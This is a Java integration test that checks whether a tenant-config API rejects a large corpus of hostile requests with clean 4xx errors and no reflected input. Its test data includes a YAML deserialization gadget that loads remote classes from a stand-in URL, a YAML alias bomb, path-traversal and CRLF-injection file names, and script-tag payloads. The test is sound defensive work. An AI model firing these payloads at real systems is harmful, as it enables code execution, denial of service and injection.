package com.relay.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The API's hostile-input corpus (issue 17): bodies, query strings, headers, path ids and upload
 * names a client may send, each over a raw socket (so control characters, duplicate headers and
 * truncated bodies really cross the wire). Every case must end in a 4xx with the one error shape
 * of docs/CONTRACT.md#api-errors — never a 500, never a hang (every read has a socket timeout) — and the error body
 * must not reflect the hostile text (issue 17 #15).
 */
class HostileInputIT extends ApiTestSupport {

    /** One request of the corpus; {@code target} uses {@code {t}} for the corpus tenant. */
    record Case(String method, String target, Map<String, String> headers, byte[] body, boolean truncateBody) {}

    private static final String T = "{t}";
    private static volatile String tenant;

    private synchronized String tenant() {
        if (tenant == null) tenant = createTenant("hostile");
        return tenant;
    }

    static Stream<Arguments> corpus() {
        List<Arguments> cases = new ArrayList<>();
        // --- bodies: POST /v1/tenants, PUT config, POST /v1/runs, POST api-keys ---
        Map<String, String> json = Map.of("X-API-Key", DEV, "Content-Type", "application/json");
        Map<String, String> yaml = Map.of("X-API-Key", DEV, "Content-Type", "application/yaml");
        String[][] tenantBodies = {
                {"unclosed object", "{"},
                {"missing value", "{\"tenant_id\":}"},
                {"trailing garbage", "{} x"},
                {"single quotes", "{'tenant_id':'a'}"},
                {"bare word", "tenant"},
                {"JSON null", "null"},
                {"JSON array", "[]"},
                {"JSON string", "\"config\""},
                {"JSON number", "42"},
                {"empty object", "{}"},
                {"NUL inside string", "{\"tenant_id\":\"a\u0000b\"}"},
                {"tenant_id as number", "{\"schema_version\":1,\"tenant_id\":7}"},
                {"tenant_id as object", "{\"schema_version\":1,\"tenant_id\":{\"a\":1}}"},
                {"tenant_id with dot-segments", "{\"schema_version\":1,\"tenant_id\":\"../globex\"}"},
                {"tenant_id bidi", "{\"schema_version\":1,\"tenant_id\":\"acme\u202egnp\"}"},
                {"vendors as string", "{\"schema_version\":1,\"tenant_id\":\"x1\",\"vendors\":\"all\"}"},
                {"schema_version huge", "{\"schema_version\":1" + "0".repeat(400) + ",\"tenant_id\":\"x1\"}"},
                {"exponent 1e2147483647", "{\"schema_version\":1e2147483647,\"tenant_id\":\"x1\"}"},
                {"exponent -1e999999999", "{\"schema_version\":1e-999999999,\"tenant_id\":\"x1\"}"},
                {"NaN", "{\"schema_version\":NaN,\"tenant_id\":\"x1\"}"},
                {"duplicate keys", "{\"tenant_id\":\"a\",\"tenant_id\":\"b\"}"},
                {"deep arrays", "[".repeat(100_000)},
                {"deep objects", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)},
                {"10 MB string", "{\"tenant_id\":\"" + "a".repeat(10 * 1024 * 1024) + "\"}"},
                {"2 MB of whitespace", " ".repeat(2 * 1024 * 1024)},
                {"unknown top-level fields", "{\"schema_version\":1,\"tenant_id\":\"x1\",\"<script>\":1}"},
        };
        for (String[] b : tenantBodies) cases.add(named("body POST /v1/tenants: " + b[0], "POST", "/v1/tenants", json, b[1]));
        cases.add(named("body invalid UTF-8", "POST", "/v1/tenants", json,
                new byte[] {'{', '"', 't', '"', ':', '"', (byte) 0xC0, (byte) 0xAE, (byte) 0xFF, '"', '}'}, false));
        String[][] yamlBodies = {
                {"YAML unclosed flow", "{tenant_id: [a, b"},
                {"YAML bad indentation", "tenant_id: a\n  vendors:\n - x\n   - y"},
                {"YAML tab indentation", "tenant_id: a\nvendors:\n\t- x"},
                {"YAML java tag", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"},
                {"YAML alias bomb", "a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                        + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                        + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"},
                {"YAML deep nesting", "a:\n" + "- ".repeat(5_000) + "x"},
                {"YAML multiple documents", "tenant_id: a\n---\ntenant_id: b\n"},
                {"YAML scalar", "just a string"},
                {"YAML huge int", "schema_version: " + "9".repeat(5_000) + "\ntenant_id: x1\n"},
        };
        for (String[] b : yamlBodies) cases.add(named("body POST /v1/tenants: " + b[0], "POST", "/v1/tenants", yaml, b[1]));
        cases.add(named("body PUT config: malformed", "PUT", "/v1/tenants/" + T + "/config", json, "{\"schema_version\":"));
        cases.add(named("body PUT config: other tenant_id", "PUT", "/v1/tenants/" + T + "/config", json,
                config("someone-else")));
        cases.add(named("body PUT config: text/html", "PUT", "/v1/tenants/" + T + "/config",
                Map.of("X-API-Key", DEV, "Content-Type", "text/html"), "<html><script>alert(1)</script></html>"));
        String[][] runBodies = {
                {"tenant_id as array", "{\"tenant_id\":[\"a\"]}"},
                {"tenant_id path traversal", "{\"tenant_id\":\"../../etc\"}"},
                {"tenant_id 10 kB", "{\"tenant_id\":\"" + "a".repeat(10_000) + "\"}"},
                {"unknown field", "{\"tenant_id\":\"{t}\",\"priority\":\"high\"}"},
                {"body is array", "[{\"tenant_id\":\"{t}\"}]"},
                {"tenant_id null", "{\"tenant_id\":null}"},
        };
        for (String[] b : runBodies) cases.add(named("body POST /v1/runs: " + b[0], "POST", "/v1/runs", json, b[1]));
        cases.add(named("body POST api-keys: description as object", "POST", "/v1/tenants/" + T + "/api-keys", json,
                "{\"description\":{\"x\":1}}"));
        cases.add(named("body POST api-keys: 3 MB description", "POST", "/v1/tenants/" + T + "/api-keys", json,
                "{\"description\":\"" + "d".repeat(3 * 1024 * 1024) + "\"}"));
        cases.add(named("body truncated (Content-Length 5000, 10 bytes sent)", "POST", "/v1/tenants", json,
                "{\"tenant_id".getBytes(StandardCharsets.UTF_8), true));

        // --- query strings ---
        String[] runQueries = {
                "limit=0", "limit=-1", "limit=101", "limit=abc", "limit=1e3", "limit=99999999999999999999", "limit=",
                "limit=1&limit=2", "cursor=%%%", "cursor=%00", "cursor=" + b64("not json"), "cursor=" + b64("{\"k\":{},\"f\":\"x\"}"),
                "cursor=" + b64("{\"k\":[1,2],\"f\":\"runs:{t}|null|null|null\"}"), "cursor=" + "A".repeat(6000),
                "cursor=" + b64("{\"k\":{\"run_id\":\"N:1\",\"tenant_id\":\"S:{t}\",\"requested_at\":\"N:2\"},\"f\":\"runs:{t}|null|null|null\"}"),
                "status=BOGUS", "status=running", "status=RUNNING&status=FAILED", "created_after=yesterday",
                "created_after=2024-13-45T00:00:00Z", "created_after=2024-01-02T00:00:00Z&created_before=2024-01-01T00:00:00Z",
                "unknown=1", "%00=1", "limit=%zz", "tenant_id=../x", "tenant_id=" + "a".repeat(200), "tenant_id=%3Cscript%3E",
        };
        for (String q : runQueries) {
            String full = q.startsWith("status") || q.startsWith("tenant_id") || q.startsWith("created") ? q : "tenant_id=" + T + "&" + q;
            if (q.startsWith("created")) full = "tenant_id=" + T + "&" + q;
            cases.add(named("query GET /v1/runs?" + abbreviate(q), "GET", "/v1/runs?" + full, Map.of("X-API-Key", DEV), (byte[]) null, false));
        }
        cases.add(named("query GET /v1/runs without tenant or status", "GET", "/v1/runs", Map.of("X-API-Key", DEV), (byte[]) null, false));
        for (String q : new String[] {"limit=0", "cursor=garbage",
                "cursor=" + b64("{\"k\":{\"tenant_id\":\"S:{t}\",\"config_version\":\"S:1\"},\"f\":\"versions:{t}\"}"), "config_version=0"}) {
            cases.add(named("query GET versions?" + abbreviate(q), "GET", "/v1/tenants/" + T + "/versions?" + q,
                    Map.of("X-API-Key", DEV), (byte[]) null, false));
        }
        cases.add(named("query GET tenant?config_version=-1", "GET", "/v1/tenants/" + T + "?config_version=-1",
                Map.of("X-API-Key", DEV), (byte[]) null, false));
        cases.add(named("query GET tenant?config_version=1e9", "GET", "/v1/tenants/" + T + "?config_version=1e9",
                Map.of("X-API-Key", DEV), (byte[]) null, false));

        // --- headers ---
        String target = "/v1/tenants/" + T;
        cases.add(named("header none", "GET", target, Map.of(), (byte[]) null, false));
        cases.add(named("header wrong key", "GET", target, Map.of("X-API-Key", "nope"), (byte[]) null, false));
        cases.add(named("header empty key", "GET", target, Map.of("X-API-Key", ""), (byte[]) null, false));
        cases.add(named("header 6 kB key", "GET", target, Map.of("X-API-Key", "k".repeat(6000)), (byte[]) null, false));
        cases.add(named("header key with control character", "GET", target, Map.of("X-API-Key", "relay-dev-key\u0001"), (byte[]) null, false));
        cases.add(named("header key with DEL and high bytes", "GET", target, Map.of("X-API-Key", "k\u007f\u00ff"), (byte[]) null, false));
        cases.add(named("header duplicate X-API-Key", "GET", target, linked("X-API-Key", DEV, "x-api-key", "other"), (byte[]) null, false));
        cases.add(named("header both X-API-Key and Authorization", "GET", target,
                linked("X-API-Key", DEV, "Authorization", "Bearer abc.def.ghi"), (byte[]) null, false));
        cases.add(named("header Authorization Basic", "GET", target, Map.of("Authorization", "Basic YWRtaW46YWRtaW4="), (byte[]) null, false));
        cases.add(named("header Authorization Bearer garbage", "GET", target, Map.of("Authorization", "Bearer <script>"), (byte[]) null, false));
        cases.add(named("header two Authorization", "GET", target,
                linked("Authorization", "Bearer a.b.c", "authorization", "Bearer d.e.f"), (byte[]) null, false));
        cases.add(named("header huge (64 kB)", "GET", target, Map.of("X-API-Key", DEV, "X-Filler", "f".repeat(64 * 1024)), (byte[]) null, false));
        cases.add(named("header bad correlation id, no key", "GET", target,
                Map.of("X-Correlation-Id", "<script>" + "c".repeat(300)), (byte[]) null, false));
        cases.add(named("header Content-Type garbage", "POST", "/v1/tenants",
                Map.of("X-API-Key", DEV, "Content-Type", ";;;;/;"), "{}"));
        cases.add(named("header Content-Type 4 kB with markup", "POST", "/v1/tenants",
                Map.of("X-API-Key", DEV, "Content-Type", "text/<script>" + "x".repeat(4000)), "{}"));
        cases.add(named("header Content-Type multipart", "POST", "/v1/runs",
                Map.of("X-API-Key", DEV, "Content-Type", "multipart/form-data; boundary=x"), "--x--"));

        // --- path ids and upload names ---
        Map<String, String> upload = Map.of("X-API-Key", DEV, "Content-Type", "text/csv");
        String[] names = {"..", "%2e%2e", "%2E%2E", ".", "%2e", "a%00b.csv", "%00", "evil%E2%80%AEvsc.csv", "a%5Cb.csv", "..%5C..%5Cx.csv",
                "a%2Fb.csv", "%2e%2e%2fglobex.csv", "%C0%AE%C0%AE", "n".repeat(129), "n".repeat(2000), "-leading.csv", ".hidden",
                "name%20with%20space.csv", "caf%C3%A9.csv", "a:b.csv", "%3Cscript%3E.csv", "a%0D%0AX-Injected:%201.csv", "*.csv"};
        for (String n : names) {
            cases.add(named("upload name " + abbreviate(n), "PUT", "/v1/tenants/" + T + "/vendors/vendor-a/inbound/" + n, upload,
                    "sku\n"));
        }
        for (String v : new String[] {"..", "%2e%2e", "v".repeat(65), "%00", "%3Cscript%3E", "vendor-b"}) {
            cases.add(named("upload vendor " + abbreviate(v), "PUT", "/v1/tenants/" + T + "/vendors/" + v + "/inbound/f.csv", upload,
                    "sku\n"));
        }
        cases.add(named("upload empty body", "PUT", "/v1/tenants/" + T + "/vendors/vendor-a/inbound/empty.csv", upload, ""));
        for (String id : new String[] {"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%00", "t".repeat(65), "a%20b", "%E2%80%AEx"}) {
            cases.add(named("path tenant " + abbreviate(id), "GET", "/v1/tenants/" + id, Map.of("X-API-Key", DEV), (byte[]) null, false));
        }
        for (String id : new String[] {"not-a-uuid", "%3Cscript%3E", "00000000-0000-4000-8000-00000000000G", "r".repeat(300)}) {
            cases.add(named("path run " + abbreviate(id), "GET", "/v1/runs/" + id, Map.of("X-API-Key", DEV), (byte[]) null, false));
        }
        cases.add(named("method DELETE on tenants", "DELETE", "/v1/tenants/" + T, Map.of("X-API-Key", DEV), (byte[]) null, false));
        cases.add(named("unknown path", "GET", "/v1/%3Cscript%3E", Map.of("X-API-Key", DEV), (byte[]) null, false));
        return cases.stream();
    }

    static int corpusSize() {
        return (int) corpus().count();
    }

    @Test
    void theCorpusHasAtLeast80Cases() {
        assertThat(corpusSize()).isGreaterThanOrEqualTo(80);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void hostileInputEndsInA4xxWithTheErrorShape(Case c) {
        String t = tenant();
        String targetPath = c.target().replace(T, t);
        byte[] body = c.body() == null ? null : new String(c.body(), StandardCharsets.ISO_8859_1).replace(T, t)
                .getBytes(StandardCharsets.ISO_8859_1);
        RawHttp.Answer answer;
        if (c.truncateBody()) {
            try (RawHttp raw = new RawHttp(port, 60_000)) {
                Map<String, String> headers = new LinkedHashMap<>(c.headers());
                headers.put("Content-Length", "5000");
                raw.send(RawHttp.request(c.method(), targetPath, headers, null));
                raw.send(body);
                raw.shutdownOutput();
                answer = raw.answer();
            }
        } else {
            answer = RawHttp.exchange(port, RawHttp.request(c.method(), targetPath, c.headers(), body));
        }
        assertThat(answer.status()).as(c.method() + " " + abbreviate(c.target()) + " → " + abbreviate(answer.body())).isBetween(400, 499);
        JsonNode json = parse(answer.body());
        assertThat(json.path("error").path("code").asText()).as(answer.body()).isNotBlank().isNotEqualTo("INTERNAL");
        assertThat(json.path("error").path("message").isTextual()).isTrue();
        assertThat(json.path("error").path("details").isArray()).isTrue();
        assertThat(json.path("correlation_id").asText()).isNotBlank();
        // nothing hostile comes back (issue 17 #15)
        assertThat(answer.body()).doesNotContain("<script").doesNotContain("\u0000").doesNotContain("\u202e")
                .doesNotContain("\\u0000").doesNotContain("\\u202e").doesNotContain("\\u202E");
        assertThat(answer.body().length()).isLessThan(4096);
    }

    /**
     * Issue 17 #11: a configuration over DynamoDB's 400 KB item limit answered 503 with Retry-After,
     * so clients retried it for ever; now 413 CONFIG_TOO_LARGE naming the limit, on create and on PUT.
     */
    @Test
    void configOverTheDynamoDbItemLimitAnswers413NamingTheLimit() {
        String id = uniqueTenant("huge");
        String big = hugeConfig(id);
        Reply created = post("/v1/tenants", DEV, big);
        assertThat(created.status()).as(created.raw().body()).isEqualTo(413);
        assertThat(created.code()).isEqualTo("CONFIG_TOO_LARGE");
        assertThat(created.header("Retry-After")).isNull();
        assertThat(created.json().path("error").path("message").asText()).contains(Integer.toString(TenantsApi.MAX_CONFIG_BYTES))
                .contains("400 KB");
        String t = createTenant("grows");
        Reply put = put("/v1/tenants/" + t + "/config", DEV, hugeConfig(t));
        assertThat(put.status()).isEqualTo(413);
        assertThat(put.code()).isEqualTo("CONFIG_TOO_LARGE");
        assertThat(get("/v1/tenants/" + t + "/versions", DEV).json().get("data")).hasSize(1);
    }

    /** Issue 17 #11: a well-formed cursor whose key attributes have the wrong types → 422, not 503. */
    @Test
    void cursorWithWrongAttributeTypesAnswers422() {
        String t = tenant();
        for (String key : List.of("{\"run_id\":\"N:1\",\"tenant_id\":\"S:" + t + "\",\"requested_at\":\"S:2024-01-01T00:00:00.000Z\"}",
                "{\"run_id\":\"S:x\",\"tenant_id\":\"S:" + t + "\",\"requested_at\":\"N:20240101\"}")) {
            String cursor = b64("{\"k\":" + key + ",\"f\":\"runs:" + t + "|null|null|null\"}");
            Reply r = get("/v1/runs?tenant_id=" + t + "&cursor=" + cursor, DEV);
            assertThat(r.status()).as(r.raw().body()).isEqualTo(422);
            assertThat(r.json().path("error").path("details").get(0).path("path").asText()).isEqualTo("query.cursor");
        }
    }

    /**
     * A normalised config of about 470 kB within every other rule: 50 vendors (the
     * RELAY_MAX_VENDORS_PER_RUN default) whose column_map names ten long headers (the body stays under 1 MiB).
     */
    private static String hugeConfig(String tenantId) {
        List<String> fields = List.of("sku", "vendor_sku", "quantity_available", "lead_time_days", "cost", "map_price",
                "price", "msrp", "brand", "title");
        StringBuilder vendors = new StringBuilder();
        for (int i = 0; i < 50; i++) {
            if (i > 0) vendors.append(',');
            StringBuilder columns = new StringBuilder();
            for (String f : fields) {
                if (columns.length() > 0) columns.append(',');
                columns.append('"').append(f).append("\":\"").append(f).append("_").append("h".repeat(900)).append('"');
            }
            vendors.append("{\"vendor_id\":\"v").append(i).append("\",\"required\":false,\"inbound\":{\"type\":\"s3\",\"s3_prefix\":\"tenants/")
                    .append(tenantId).append("/inbound/v").append(i).append("/\"},\"parser\":{\"format\":\"csv\",\"column_map\":{")
                    .append(columns).append("}}}");
        }
        return config(tenantId).replaceFirst("(?s)\"vendors\": \\[.*?\\],\\s*\"pricing\"", "\"vendors\": [" + vendors + "], \"pricing\"");
    }

    private static JsonNode parse(String body) {
        try {
            return Json.MAPPER.readTree(body);
        } catch (Exception e) {
            throw new AssertionError("not JSON: " + abbreviate(body), e);
        }
    }

    private static String b64(String s) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    private static String abbreviate(String s) {
        return s.length() <= 40 ? s : s.substring(0, 37) + "...(" + s.length() + ")";
    }

    private static Map<String, String> linked(String... kv) {
        Map<String, String> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) m.put(kv[i], kv[i + 1]);
        return m;
    }

    private static Arguments named(String name, String method, String target, Map<String, String> headers, String body) {
        return named(name, method, target, headers, body.getBytes(StandardCharsets.UTF_8), false);
    }

    private static Arguments named(String name, String method, String target, Map<String, String> headers, byte[] body,
                                   boolean truncate) {
        return Arguments.of(Named.of(abbreviate(name), new Case(method, target, headers, body, truncate)));
    }
}
